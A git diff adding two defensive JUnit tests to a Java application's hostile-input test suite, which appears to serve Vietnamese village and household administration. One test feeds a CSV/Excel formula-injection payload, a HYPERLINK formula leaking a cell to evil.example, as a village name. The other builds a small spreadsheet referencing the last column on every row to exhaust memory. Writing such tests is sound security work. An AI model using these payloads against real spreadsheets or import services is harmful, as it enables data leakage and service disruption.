@@ -35,6 +35,7 @@ import vn.tramso.base.table.ImportRefusedException;
 import vn.tramso.base.table.ImportReport;
 import vn.tramso.base.table.Progress;
 import vn.tramso.base.table.Table;
+import vn.tramso.base.table.TableException;
 import vn.tramso.base.table.TableReader;
 import vn.tramso.booking.CccdParser;
 import vn.tramso.booking.CodeGuesses;
@@ -42,6 +43,9 @@ import vn.tramso.guide.ContentLoader;
 import vn.tramso.guide.InvalidContentException;
 import vn.tramso.household.HouseholdImport;
 import vn.tramso.place.PlaceImport;
+import vn.tramso.place.PlaceAdmin;
+import vn.tramso.place.PlaceLevel;
+import vn.tramso.place.PlaceRefusedException;
 
 /**
  * One hostile input of each kind this project accepts from outside, through the real entry point:
@@ -65,6 +69,8 @@ class BadInputTourTest {
     JdbcClient jdbc;
     @Autowired
     AuthenticationConfiguration signIn;
+    @Autowired
+    PlaceAdmin placeAdmin;
 
     @TempDir
     Path temp;
@@ -211,5 +217,41 @@ class BadInputTourTest {
 
     private int count(String table) {
         return jdbc.sql("SELECT COUNT(*) FROM " + table).query(Integer.class).single();
+    }
+
+    @Test
+    void a_village_renamed_to_a_spreadsheet_formula_is_refused_in_words_a_leader_reads_and_keeps_its_name() {
+        long village = jdbc.sql("SELECT id FROM village WHERE code = 'HY-HQ-TRA-PHUONG'").query(Long.class).single();
+        PlaceRefusedException refused = catchThrowableOfType(PlaceRefusedException.class, () -> staff.run("lanhdao.hongquang",
+                () -> placeAdmin.rename(PlaceLevel.VILLAGE, village, "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")")));
+
+        assertThat(Messages.vi(refused.reason().messageKey()))
+                .isEqualTo("Tên không được bắt đầu bằng =, +, -, @ hay dấu tab: bảng tính sẽ hiểu là công thức.");
+        assertThat(jdbc.sql("SELECT name FROM village WHERE id = :v").param("v", village).query(String.class).single())
+                .isEqualTo("Thôn Trà Phương");
+    }
+
+    @Test
+    void a_small_excel_file_naming_column_xfd_on_every_row_is_refused_before_it_fills_memory() throws Exception {
+        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+        try (var book = new org.apache.poi.xssf.streaming.SXSSFWorkbook(100)) {
+            var sheet = book.createSheet("ho");
+            var header = sheet.createRow(0);
+            for (int c = 0; c < HouseholdImport.COLUMNS.size(); c++) {
+                header.createCell(c).setCellValue(HouseholdImport.COLUMNS.get(c).header());
+            }
+            for (int r = 1; r <= TableReader.MAX_ROWS; r++) {
+                sheet.createRow(r).createCell(16_383).setCellValue("x");
+            }
+            book.write(out);
+        }
+        int members = count("household_member");
+
+        TableException refused = catchThrowableOfType(TableException.class,
+                () -> TableReader.read("ho.xlsx", out.toByteArray(), HouseholdImport.COLUMNS));
+
+        assertThat(out.size()).as("a small file").isLessThan(TableReader.MAX_BYTES);
+        assertThat(refused.getMessage()).startsWith("Dòng 2, cột 'XFD': tệp chỉ được có tối đa 50 cột");
+        assertThat(count("household_member")).isEqualTo(members);
     }
 }
